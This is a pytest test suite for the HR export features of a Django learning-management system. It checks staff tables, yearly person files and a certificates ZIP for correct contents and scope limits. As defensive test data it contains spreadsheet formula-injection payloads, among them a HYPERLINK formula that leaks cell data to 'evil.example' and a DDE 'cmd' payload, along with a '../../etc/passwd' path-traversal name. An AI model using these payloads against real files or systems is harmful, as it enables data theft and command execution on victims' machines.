"""HR exports: the staff table (CSV, XLSX) and a person's yearly file match the pages,
the certificates ZIP holds the right PDFs and a manifest, cells never carry formulas,
and nobody gets anything outside their scope, or anyone else's export."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal as D
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

import lms.exports
from accounts.choices import InstitutionKind, Profession
from accounts.models import HRScope
from accounts.roles import Role
from accounts.services import hr_scope_grant
from certificates.models import Certificate, CertificateStatus
from courses.choices import CreditClass
from lms.errors import ExportRefused
from lms.models import CreditEntry, ExportJob, ExportKind, ExportStatus
from lms.selectors.hr import StaffFilters, hr_viewer, staff_table
from lms.services.credits import credit_reverse
from lms.services.exports import MAX_ACTIVE_JOBS, export_request, export_run
from lms.services.summaries import compliance_summaries_refresh_year
from lms.spreadsheet import safe_cell
from tests.accounts.factories import DepartmentFactory, UserFactory, institution
from tests.certificates.factories import attach_pdf, issued
from tests.lms.test_requirements import award

pytestmark = pytest.mark.django_db
THIS_YEAR = timezone.localdate().year
EXPORTS_URL = reverse("lms:hr_exports")
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def _no_rendering(monkeypatch):
    """Issuing a certificate queues its PDF rendering; these tests attach PDFs."""
    queued: list[int] = []
    monkeypatch.setattr("certificates.tasks.render_certificate.delay", queued.append)
    return queued


@pytest.fixture(autouse=True)
def _english():
    """Exports use the requester's language; these tests ask in English."""
    with translation.override("en"):
        yield


@pytest.fixture
def client(client):
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


@pytest.fixture
def county_officer(institutions):
    commission = institution(
        name="林周县卫生健康委员会",
        kind=InstitutionKind.HEALTH_COMMISSION,
        parent=institutions["county_a"],
    )
    user = UserFactory(role=Role.HR_OFFICER, institution=commission, real_name="县卫健委")
    hr_scope_grant(user=user, institution=institutions["county_a"])
    return user


@pytest.fixture
def hospital_officer(institutions):
    user = UserFactory(
        role=Role.HR_OFFICER, institution=institutions["hospital_a"], real_name="医院人事"
    )
    hr_scope_grant(user=user, institution=institutions["hospital_a"])
    return user


@pytest.fixture
def people(institutions):
    surgery = DepartmentFactory(institution=institutions["hospital_a"], name="外科")
    made = {
        "done": UserFactory(
            real_name="次仁卓玛", institution=institutions["hospital_a"], department=surgery
        ),
        "some": UserFactory(
            real_name="扎西", institution=institutions["hospital_a"], profession=Profession.NURSE
        ),
        "township": UserFactory(real_name="格桑", institution=institutions["township_a"]),
        "other_county": UserFactory(real_name="达瓦", institution=institutions["hospital_b"]),
    }
    award(made["done"], 10, CreditClass.CLASS_1_NATIONAL, hours=60, year=THIS_YEAR)
    award(made["done"], 15, CreditClass.CLASS_2, hours=30, year=THIS_YEAR)
    award(made["some"], D("2.5"), hours=9, year=THIS_YEAR)
    award(made["other_county"], 8, hours=24, year=THIS_YEAR)
    compliance_summaries_refresh_year(year=THIS_YEAR, today=datetime.date(THIS_YEAR, 11, 30))
    made["surgery"] = surgery
    made["newcomer"] = UserFactory(real_name="新人", institution=institutions["township_a"])
    return made


def requested(user, kind, params, django_capture_on_commit_callbacks) -> ExportJob:
    """Ask for an export; the task is queued after commit (exactly once)."""
    with django_capture_on_commit_callbacks() as callbacks:
        job = export_request(user=user, kind=kind, params=params)
    assert len(callbacks) == 1
    assert job.status == ExportStatus.QUEUED
    return job


def built(user, kind, params, django_capture_on_commit_callbacks) -> ExportJob:
    job = requested(user, kind, params, django_capture_on_commit_callbacks)
    job = export_run(job_id=job.pk)
    assert job.status == ExportStatus.DONE, job.error
    return job


def content(job: ExportJob) -> bytes:
    with job.file.open("rb") as handle:
        return handle.read()


def csv_rows(job: ExportJob) -> list[list[str]]:
    data = content(job)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_rows(job: ExportJob) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content(job))).active
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def xlsx_cells(job: ExportJob):
    sheet = load_workbook(io.BytesIO(content(job))).active
    return [list(row) for row in sheet.iter_rows()]


def exported_files() -> list[Path]:
    root = Path(settings.SNOWLAND_PRIVATE_MEDIA_ROOT) / "exports"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


# -- The cell helper ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("高原病 = 难", "高原病 = 难"),
        ("", ""),
        (None, None),
        (D("-2.50"), D("-2.50")),
        (3, 3),
        (1.5, 1.5),
    ],
)
def test_safe_cell_neutralises_formulas_and_keeps_numbers(value, expected):
    assert safe_cell(value) == expected


def test_the_transcript_csv_still_neutralises_formulas(client, learner):
    award(learner, 2, year=THIS_YEAR, activity_title="=cmd|'/c calc'!A1")
    client.force_login(learner)
    response = client.get(reverse("lms:transcript_csv", args=[THIS_YEAR]))
    text = response.content.decode("utf-8-sig")
    assert "'=cmd|" in text
    assert response.content.startswith(b"\xef\xbb\xbf")


# -- The staff table ------------------------------------------------------------------------


def test_the_staff_csv_matches_the_staff_table(
    county_officer, people, institutions, django_capture_on_commit_callbacks
):
    params = {"year": THIS_YEAR, "filters": {"sort": "-credits"}}
    job = built(county_officer, ExportKind.STAFF_CSV, params, django_capture_on_commit_callbacks)
    header, *rows = csv_rows(job)
    assert header == [
        "Name",
        "E-mail",
        "Institution",
        "Department",
        "Profession",
        "Title level",
        "Class I (national)",
        "Class I (provincial)",
        "Class II",
        "Credits",
        "Professional hours",
        "Public-compulsory hours",
        "Study hours",
        "Status",
        "Gaps",
    ]
    assert job.language == "en"
    table = list(
        staff_table(
            viewer=hr_viewer(user=county_officer),
            year=THIS_YEAR,
            filters=StaffFilters(sort="-credits"),
        )
    )
    assert [row[0] for row in rows] == [person.real_name for person in table]
    assert "达瓦" not in [row[0] for row in rows]  # the other county
    by_name = {row[0]: row for row in rows}
    done = by_name["次仁卓玛"]
    assert done[1] == people["done"].email
    assert done[2:4] == ["林周县人民医院", "外科"]
    assert done[6:10] == ["10", "0", "15", "25"]
    assert done[10:13] == ["90", "0", "90"]
    assert by_name["扎西"][8] == "2.5"
    # No summary yet: empty amounts, like the page's dashes.
    assert by_name["新人"][6:13] == [""] * 7
    assert job.file_name.startswith(f"cme-staff-{THIS_YEAR}-")
    assert job.file_name.endswith(".csv")


def test_the_staff_xlsx_opens_in_openpyxl_with_numeric_cells(
    county_officer, people, institutions, django_capture_on_commit_callbacks
):
    filters = {"institution": str(institutions["hospital_a"].pk), "q": "", "sort": "name"}
    params = {"year": str(THIS_YEAR), "filters": filters}
    job = built(county_officer, ExportKind.STAFF_XLSX, params, django_capture_on_commit_callbacks)
    header, *rows = xlsx_rows(job)
    assert len(header) == 15
    table = staff_table(
        viewer=hr_viewer(user=county_officer),
        year=THIS_YEAR,
        filters=StaffFilters(institution=institutions["hospital_a"], sort="name"),
    )
    assert [row[0] for row in rows] == [person.real_name for person in table]
    done = next(row for row in rows if row[0] == "次仁卓玛")
    assert done[9] == 25
    assert isinstance(done[9], int | float)
    assert isinstance(done[12], int | float)
    assert job.progress_done == job.progress_total == len(rows)


def test_filters_by_status_and_profession_match_the_table(
    county_officer, people, django_capture_on_commit_callbacks
):
    for filters, expected in (
        ({"status": "pending"}, ["新人"]),
        ({"profession": Profession.NURSE}, ["扎西"]),
        ({"q": "卓玛"}, ["次仁卓玛"]),
    ):
        job = built(
            county_officer,
            ExportKind.STAFF_CSV,
            {"year": THIS_YEAR, "filters": filters},
            django_capture_on_commit_callbacks,
        )
        assert [row[0] for row in csv_rows(job)[1:]] == expected


# -- A person's yearly file -----------------------------------------------------------------


def test_the_person_file_csv_has_the_person_compliance_and_every_entry(
    hospital_officer, people, django_capture_on_commit_callbacks
):
    person = people["done"]
    wrong = award(person, 3, year=THIS_YEAR, activity_title="重复录入")
    credit_reverse(entry=wrong, acting_user=hospital_officer, reason="重复")
    params = {"year": THIS_YEAR, "person": person.pk}
    job = built(
        hospital_officer, ExportKind.PERSON_FILE_CSV, params, django_capture_on_commit_callbacks
    )
    rows = csv_rows(job)
    flat = [cell for row in rows for cell in row]
    assert person.real_name in flat
    assert person.email in flat
    assert str(THIS_YEAR) in rows[0]
    entries = CreditEntry.objects.filter(learner=person, year=THIS_YEAR)
    ledger_start = next(i for i, row in enumerate(rows) if len(row) == 12)
    ledger = rows[ledger_start + 1 :]
    assert len(ledger) == entries.count() == 4
    assert [row[2] for row in ledger].count("重复录入") == 2
    assert ledger[-1][7] == "-3"  # the correction: a number, never "'-3"
    assert job.progress_done == job.progress_total == 4
    # The compliance checks: required, earned, met, gap.
    checks = rows[rows.index([]) + 2 : ledger_start - 1]
    assert checks
    assert all(len(row) == 5 for row in checks)


def test_the_person_file_xlsx(hospital_officer, people, django_capture_on_commit_callbacks):
    person = people["some"]
    params = {"year": THIS_YEAR, "person": str(person.pk)}
    job = built(
        hospital_officer, ExportKind.PERSON_FILE_XLSX, params, django_capture_on_commit_callbacks
    )
    rows = xlsx_rows(job)
    assert rows[0][:2] == ("Yearly continuing-education file", THIS_YEAR)
    assert rows[1][:2] == ("Name", "扎西")
    last = rows[-1]
    assert last[2] == "院内学术讲座"
    assert last[7] == 2.5


# -- Formula injection ----------------------------------------------------------------------


def test_formulas_in_names_titles_and_reasons_are_neutralised(
    hospital_officer, institutions, django_capture_on_commit_callbacks
):
    person = UserFactory(real_name=EVIL_NAME, institution=institutions["hospital_a"])
    entry = award(person, 2, year=THIS_YEAR, activity_title="+1+1", organiser="@SUM(A1:A9)")
    credit_reverse(entry=entry, acting_user=hospital_officer, reason="-2+3")
    compliance_summaries_refresh_year(year=THIS_YEAR)
    staff_csv = built(
        hospital_officer,
        ExportKind.STAFF_CSV,
        {"filters": {"q": "HYPERLINK"}},
        django_capture_on_commit_callbacks,
    )
    assert csv_rows(staff_csv)[1][0] == f"'{EVIL_NAME}"
    staff_xlsx = built(
        hospital_officer,
        ExportKind.STAFF_XLSX,
        {"filters": {"q": "HYPERLINK"}},
        django_capture_on_commit_callbacks,
    )
    name_cell = xlsx_cells(staff_xlsx)[1][0]
    assert name_cell.data_type == "s"  # text, never a formula
    assert name_cell.value == f"'{EVIL_NAME}"
    assert xlsx_cells(staff_xlsx)[1][9].data_type == "n"
    person_xlsx = built(
        hospital_officer,
        ExportKind.PERSON_FILE_XLSX,
        {"person": person.pk},
        django_capture_on_commit_callbacks,
    )
    cells = xlsx_cells(person_xlsx)
    assert all(cell.data_type != "f" for row in cells for cell in row)
    entry = [cell.value for cell in cells[-1]]
    assert entry[2:5] == ["'+1+1", "'@SUM(A1:A9)", None]  # an empty cell
    assert entry[10] == "'-2+3"
    assert entry[7] == -2  # the correction's credits: a number, not neutralised text
    assert cells[-1][7].data_type == "n"
    person_csv = built(
        hospital_officer,
        ExportKind.PERSON_FILE_CSV,
        {"person": person.pk},
        django_capture_on_commit_callbacks,
    )
    assert csv_rows(person_csv)[1][1] == f"'{EVIL_NAME}"


# -- The certificates ZIP -------------------------------------------------------------------


@pytest.fixture
def certified(home, catalogue, institutions, people):
    """Certificates of staff in both counties, one revoked, one never rendered."""
    made = {
        "valid": issued(people["done"], catalogue),
        "revoked": issued(people["done"], catalogue),
        "unrendered": issued(people["some"], catalogue),
        "outside": issued(people["other_county"], catalogue),
    }
    for key in ("valid", "revoked", "outside"):
        attach_pdf(made[key])
    Certificate.objects.filter(pk=made["revoked"].pk).update(status=CertificateStatus.REVOKED)
    return made


@pytest.fixture
def render_fails(monkeypatch):
    def fail(*, certificate_id):
        raise RuntimeError("no WeasyPrint here")

    monkeypatch.setattr("certificates.document_services.certificate_pdf_render", fail)


def zip_of(job: ExportJob) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(content(job)))


def manifest(archive: zipfile.ZipFile) -> list[list[str]]:
    return list(csv.reader(io.StringIO(archive.read("MANIFEST.csv").decode("utf-8-sig"))))


def test_the_certificates_zip_of_ticked_people(
    county_officer, people, certified, render_fails, django_capture_on_commit_callbacks
):
    params = {"user_ids": [people["done"].pk, people["some"].pk]}
    job = built(
        county_officer, ExportKind.CERTIFICATES_ZIP, params, django_capture_on_commit_callbacks
    )
    archive = zip_of(job)
    valid, revoked = certified["valid"], certified["revoked"]
    assert sorted(archive.namelist()) == sorted(
        [
            f"{valid.serial_number}-次仁卓玛.pdf",
            f"revoked/{revoked.serial_number}-次仁卓玛.pdf",
            "MANIFEST.csv",
        ]
    )
    for name in archive.namelist():
        if name.endswith(".pdf"):
            assert archive.read(name).startswith(b"%PDF")
    assert archive.read(f"{valid.serial_number}-次仁卓玛.pdf") == content_of(valid)
    header, *rows = manifest(archive)
    assert len(header) == 6
    by_serial = {row[0]: row for row in rows}
    assert set(by_serial) == {
        valid.serial_number,
        revoked.serial_number,
        certified["unrendered"].serial_number,
    }
    assert by_serial[revoked.serial_number][3] == "Revoked"
    assert by_serial[valid.serial_number][3] == "Valid"
    assert by_serial[revoked.serial_number][5] == f"revoked/{revoked.serial_number}-次仁卓玛.pdf"
    assert by_serial[valid.serial_number][1:3] == ["次仁卓玛", valid.course_title]
    unrendered = by_serial[certified["unrendered"].serial_number]
    assert unrendered[5] == "PDF not yet rendered"
    assert job.note.startswith("1 certificate has no PDF yet")
    assert job.progress_done == job.progress_total == 3


def content_of(certificate) -> bytes:
    certificate.refresh_from_db()
    with certificate.pdf.open("rb") as handle:
        return handle.read()


def test_missing_pdfs_are_rendered_in_the_task(
    county_officer, people, certified, monkeypatch, django_capture_on_commit_callbacks
):
    rendered = []

    def render(*, certificate_id):
        certificate = Certificate.objects.get(pk=certificate_id)
        attach_pdf(certificate)
        rendered.append(certificate_id)
        return certificate

    monkeypatch.setattr("certificates.document_services.certificate_pdf_render", render)
    job = built(
        county_officer,
        ExportKind.CERTIFICATES_ZIP,
        {"user_ids": [people["some"].pk]},
        django_capture_on_commit_callbacks,
    )
    assert rendered == [certified["unrendered"].pk]
    names = zip_of(job).namelist()
    assert f"{certified['unrendered'].serial_number}-扎西.pdf" in names
    assert not job.note


def test_the_zip_of_everyone_the_filters_show_stays_in_scope(
    county_officer, people, certified, render_fails, django_capture_on_commit_callbacks
):
    params = {"year": THIS_YEAR, "filters": {}}
    job = built(
        county_officer, ExportKind.CERTIFICATES_ZIP, params, django_capture_on_commit_callbacks
    )
    serials = {row[0] for row in manifest(zip_of(job))[1:]}
    assert certified["outside"].serial_number not in serials
    assert certified["valid"].serial_number in serials


def test_names_inside_the_zip_cannot_climb_out(
    hospital_officer, institutions, home, catalogue, django_capture_on_commit_callbacks
):
    person = UserFactory(
        real_name="../../etc/passwd\\..\x07名\u202e", institution=institutions["hospital_a"]
    )
    certificate = issued(person, catalogue)
    attach_pdf(certificate)
    job = built(
        hospital_officer,
        ExportKind.CERTIFICATES_ZIP,
        {"user_ids": [person.pk]},
        django_capture_on_commit_callbacks,
    )
    names = zip_of(job).namelist()
    pdf = next(name for name in names if name.endswith(".pdf"))
    assert pdf == f"{certificate.serial_number}-etc_passwd_名.pdf"
    assert all(".." not in name and "/" not in name and "\\" not in name for name in names)


def test_a_selection_is_capped(
    county_officer, people, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr("certificates.exports.MAX_PEOPLE", 2)
    ids = [people["done"].pk, people["some"].pk, people["township"].pk]
    with pytest.raises(ExportRefused) as refused:
        export_request(
            user=county_officer, kind=ExportKind.CERTIFICATES_ZIP, params={"user_ids": ids}
        )
    assert refused.value.text == ExportRefused.TOO_MANY_PEOPLE % {"max": 2}
    with pytest.raises(ExportRefused, match="at most 2 people"):
        export_request(
            user=county_officer,
            kind=ExportKind.CERTIFICATES_ZIP,
            params={"year": THIS_YEAR, "filters": {}},
        )


# -- Scope ----------------------------------------------------------------------------------


def test_nothing_outside_the_scope_can_be_asked_for(hospital_officer, people, institutions):
    cases = [
        (
            ExportKind.STAFF_CSV,
            {"filters": {"institution": institutions["township_a"].pk}},
            ExportRefused.FILTER_OUTSIDE_SCOPE,
        ),
        (
            ExportKind.PERSON_FILE_CSV,
            {"person": people["township"].pk},
            ExportRefused.PERSON_OUTSIDE_SCOPE,
        ),
        (ExportKind.PERSON_FILE_XLSX, {"person": 999999}, ExportRefused.PERSON_OUTSIDE_SCOPE),
        (
            ExportKind.CERTIFICATES_ZIP,
            {"user_ids": [people["done"].pk, people["other_county"].pk]},
            ExportRefused.PEOPLE_OUTSIDE_SCOPE,
        ),
    ]
    for kind, params, message in cases:
        with pytest.raises(ExportRefused) as refused:
            export_request(user=hospital_officer, kind=kind, params=params)
        assert refused.value.text == str(message)
    assert not ExportJob.objects.exists()


def test_learners_may_not_export(learner):
    with pytest.raises(ExportRefused) as refused:
        export_request(user=learner, kind=ExportKind.STAFF_CSV, params={})
    assert refused.value.text == str(ExportRefused.NOT_ALLOWED)


def _shrink_to_hospital(officer, institutions):
    HRScope.objects.filter(user=officer).delete()
    hr_scope_grant(user=officer, institution=institutions["hospital_a"])


def test_a_person_who_left_the_scope_before_the_run_fails_the_job(
    county_officer, people, institutions, django_capture_on_commit_callbacks
):
    job = requested(
        county_officer,
        ExportKind.PERSON_FILE_CSV,
        {"person": people["township"].pk},
        django_capture_on_commit_callbacks,
    )
    _shrink_to_hospital(county_officer, institutions)
    job = export_run(job_id=job.pk)
    assert job.status == ExportStatus.FAILED
    assert job.error == str(ExportRefused.PERSON_LEFT_SCOPE)
    assert not job.file
    assert not exported_files()


def test_a_filter_that_left_the_scope_fails_the_job(
    county_officer, people, institutions, django_capture_on_commit_callbacks
):
    job = requested(
        county_officer,
        ExportKind.STAFF_CSV,
        {"filters": {"institution": institutions["township_a"].pk}},
        django_capture_on_commit_callbacks,
    )
    _shrink_to_hospital(county_officer, institutions)
    job = export_run(job_id=job.pk)
    assert job.status == ExportStatus.FAILED
    assert job.error == str(ExportRefused.FILTER_LEFT_SCOPE)


def test_the_staff_table_follows_the_scope_at_run_time(
    county_officer, people, institutions, django_capture_on_commit_callbacks
):
    job = requested(county_officer, ExportKind.STAFF_CSV, {}, django_capture_on_commit_callbacks)
    _shrink_to_hospital(county_officer, institutions)
    job = export_run(job_id=job.pk)
    names = {row[0] for row in csv_rows(job)[1:]}
    assert names == {"次仁卓玛", "扎西"}  # the township left with the scope


def test_people_who_left_the_scope_are_left_out_of_the_zip_with_a_note(
    county_officer, people, institutions, certified, django_capture_on_commit_callbacks
):
    township_certificate = issued(people["township"], certified["valid"].enrollment.course)
    attach_pdf(township_certificate)
    params = {"user_ids": [people["done"].pk, people["township"].pk]}
    job = requested(
        county_officer, ExportKind.CERTIFICATES_ZIP, params, django_capture_on_commit_callbacks
    )
    _shrink_to_hospital(county_officer, institutions)
    job = export_run(job_id=job.pk)
    assert job.status == ExportStatus.DONE
    serials = {row[0] for row in manifest(zip_of(job))[1:]}
    assert township_certificate.serial_number not in serials
    assert certified["valid"].serial_number in serials
    assert job.note == (
        "1 selected person is no longer among the staff you may see and was left out."
    )


def test_an_officer_who_lost_the_right_gets_nothing(
    county_officer, people, django_capture_on_commit_callbacks
):
    job = requested(county_officer, ExportKind.STAFF_CSV, {}, django_capture_on_commit_callbacks)
    county_officer.groups.clear()
    job = export_run(job_id=job.pk)
    assert job.status == ExportStatus.FAILED
    assert job.error == str(ExportRefused.NO_LONGER_ALLOWED)


# -- Running: progress, failures, idempotence ----------------------------------------------


def test_progress_is_saved_while_rows_are_written_and_reaches_the_total(
    county_officer, people, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(lms.exports, "PROGRESS_EVERY", 2)
    seen = []
    real_report = lms.services.exports._report

    def report(job_id, done, total):
        seen.append((done, total))
        real_report(job_id, done, total)

    monkeypatch.setattr("lms.services.exports._report", report)
    job = built(county_officer, ExportKind.STAFF_CSV, {}, django_capture_on_commit_callbacks)
    rows = len(csv_rows(job)) - 1
    assert rows == 5
    assert seen == [(0, 5), (2, 5), (4, 5)]
    assert (job.progress_done, job.progress_total, job.percent) == (5, 5, 100)
    assert job.started_at <= job.finished_at


def test_a_failed_build_leaves_no_file_and_a_plain_message(
    county_officer, people, monkeypatch, django_capture_on_commit_callbacks
):
    calls = []

    def explode(person, *, language):
        calls.append(person)
        if len(calls) == 2:
            raise RuntimeError("database went away")
        return [person.real_name]

    monkeypatch.setattr("lms.services.exports.staff_export_row", explode)
    job = requested(county_officer, ExportKind.STAFF_XLSX, {}, django_capture_on_commit_callbacks)
    job = export_run(job_id=job.pk)
    assert job.status == ExportStatus.FAILED
    assert job.error == str(ExportRefused.FAILED)
    assert not job.file
    assert job.finished_at is not None
    assert not exported_files()


def test_running_a_job_twice_changes_nothing(
    county_officer, people, django_capture_on_commit_callbacks
):
    job = built(county_officer, ExportKind.STAFF_CSV, {}, django_capture_on_commit_callbacks)
    again = export_run(job_id=job.pk)
    assert (again.file.name, again.finished_at) == (job.file.name, job.finished_at)
    assert len(exported_files()) == 1
    assert export_run(job_id=987654) is None


def test_the_task_runs_the_job_after_commit(
    county_officer, people, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        job = export_request(user=county_officer, kind=ExportKind.STAFF_CSV, params={})
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE  # eager Celery in tests
    assert job.file.name.startswith(f"exports/{THIS_YEAR}/")


def test_an_officer_may_have_only_a_few_exports_waiting(county_officer, people):
    for _n in range(MAX_ACTIVE_JOBS):
        export_request(user=county_officer, kind=ExportKind.STAFF_CSV, params={})
    with pytest.raises(ExportRefused, match="already have 3 exports"):
        export_request(user=county_officer, kind=ExportKind.STAFF_CSV, params={})


# -- Pages ----------------------------------------------------------------------------------


def test_the_staff_page_posts_its_filters_to_an_export(
    client, county_officer, people, institutions, django_capture_on_commit_callbacks
):
    client.force_login(county_officer)
    page = client.get(reverse("lms:hr_staff"), {"institution": institutions["hospital_a"].pk})
    html = page.content.decode()
    assert f'action="{EXPORTS_URL}"' in html
    assert f'name="user" value="{people["done"].pk}"' in html
    assert 'value="certificates_zip_filtered"' in html
    query = page.context["query"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            EXPORTS_URL, {"kind": "staff_xlsx", "year": THIS_YEAR, "filters": query}
        )
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("lms:hr_export_status", args=[job.token])
    assert job.params["filters"]["institution"] == institutions["hospital_a"].pk
    assert {row[0] for row in xlsx_rows(job)[1:]} == {"次仁卓玛", "扎西"}


def test_ticked_rows_make_a_certificates_zip(
    client, county_officer, people, certified, render_fails, django_capture_on_commit_callbacks
):
    client.force_login(county_officer)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            EXPORTS_URL,
            {"kind": "certificates_zip", "user": [people["done"].pk], "filters": ""},
        )
    job = ExportJob.objects.get()
    assert job.params == {"user_ids": [people["done"].pk]}
    assert job.status == ExportStatus.DONE


def test_the_person_page_offers_the_yearly_file(client, hospital_officer, people):
    client.force_login(hospital_officer)
    response = client.get(reverse("lms:hr_staff_detail", args=[people["some"].pk]))
    html = response.content.decode()
    assert 'value="person_file_csv"' in html
    assert 'value="person_file_xlsx"' in html
    response = client.post(
        EXPORTS_URL, {"kind": "person_file_csv", "person": people["some"].pk, "year": THIS_YEAR}
    )
    assert response.status_code == 302
    assert ExportJob.objects.get().params == {"year": THIS_YEAR, "person": people["some"].pk}


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"kind": "everything"}, "There is no such export."),
        ({}, "There is no such export."),
        ({"kind": "staff_csv", "filters": "institution=abc"}, "has a value that is not allowed"),
        ({"kind": "staff_csv", "filters": "bogus=1"}, "no filter called “bogus”"),
        ({"kind": "staff_csv", "filters": "sort=password"}, "has a value that is not allowed"),
        ({"kind": "staff_csv", "year": "1800"}, "Choose a year between 2000 and 2100."),
        ({"kind": "staff_csv", "year": "x" * 50}, "Choose a year between 2000 and 2100."),
        ({"kind": "staff_csv", "filters": "q=" + "x" * 3000}, "malformed"),
        ({"kind": "person_file_csv", "person": "abc"}, "has a value that is not allowed"),
        ({"kind": "person_file_csv"}, "not among the staff you may see"),
        ({"kind": "certificates_zip"}, "Tick at least one person"),
        ({"kind": "certificates_zip", "user": ["1", "x"]}, "has a value that is not allowed"),
    ],
)
def test_bad_requests_get_a_clear_message_not_an_error(client, hospital_officer, data, message):
    client.force_login(hospital_officer)
    response = client.post(EXPORTS_URL, data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not ExportJob.objects.exists()


def test_a_filter_outside_the_scope_is_refused_on_the_page(client, hospital_officer, institutions):
    client.force_login(hospital_officer)
    response = client.post(
        EXPORTS_URL,
        {"kind": "staff_csv", "filters": f"institution={institutions['hospital_b'].pk}"},
    )
    assert response.status_code == 400
    assert "outside your scope" in response.content.decode()


def test_status_page_refreshes_until_done_then_links_the_download(
    client, county_officer, people, django_capture_on_commit_callbacks
):
    job = requested(county_officer, ExportKind.STAFF_CSV, {}, django_capture_on_commit_callbacks)
    client.force_login(county_officer)
    url = reverse("lms:hr_export_status", args=[job.token])
    download = reverse("lms:hr_export_download", args=[job.token])
    waiting = client.get(url).content.decode()
    assert '<meta http-equiv="refresh" content="3">' in waiting
    assert "<progress" in waiting
    assert download not in waiting
    assert client.get(download).status_code == 404  # not ready yet
    export_run(job_id=job.pk)
    ready = client.get(url).content.decode()
    assert 'http-equiv="refresh"' not in ready
    assert download in ready
    listing = client.get(EXPORTS_URL).content.decode()
    assert download in listing
    response = client.get(download)
    assert response.status_code == 200
    job.refresh_from_db()
    assert b"".join(response.streaming_content) == content(job)
    assert response["Content-Disposition"].startswith("attachment;")
    assert job.file_name in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Type"].startswith("text/csv")


def test_a_failed_job_shows_its_message(
    client, county_officer, people, institutions, django_capture_on_commit_callbacks
):
    job = requested(
        county_officer,
        ExportKind.PERSON_FILE_CSV,
        {"person": people["township"].pk},
        django_capture_on_commit_callbacks,
    )
    _shrink_to_hospital(county_officer, institutions)
    export_run(job_id=job.pk)
    client.force_login(county_officer)
    html = client.get(reverse("lms:hr_export_status", args=[job.token])).content.decode()
    assert "no longer among the staff you may see" in html
    assert 'http-equiv="refresh"' not in html


def test_nobody_else_sees_or_downloads_an_export(
    client, admin_client, county_officer, hospital_officer, learner, people,
    django_capture_on_commit_callbacks,
):  # fmt: skip
    job = built(county_officer, ExportKind.STAFF_CSV, {}, django_capture_on_commit_callbacks)
    status = reverse("lms:hr_export_status", args=[job.token])
    download = reverse("lms:hr_export_download", args=[job.token])
    client.force_login(hospital_officer)  # another officer, even with a wider scope: 404
    assert client.get(status).status_code == 404
    assert client.get(download).status_code == 404
    assert download not in client.get(EXPORTS_URL).content.decode()
    client.force_login(learner)
    assert client.get(download).status_code == 403
    assert client.post(EXPORTS_URL, {"kind": "staff_csv"}).status_code == 403
    assert admin_client.get(download).status_code == 200
    client.force_login(county_officer)
    assert client.get(download).status_code == 200
    unknown = reverse("lms:hr_export_download", args=["00000000-0000-0000-0000-000000000000"])
    assert client.get(unknown).status_code == 404


def test_a_former_officer_can_no_longer_download(
    client, county_officer, people, django_capture_on_commit_callbacks
):
    job = built(county_officer, ExportKind.STAFF_CSV, {}, django_capture_on_commit_callbacks)
    county_officer.groups.clear()
    client.force_login(county_officer)
    assert client.get(reverse("lms:hr_export_download", args=[job.token])).status_code == 403
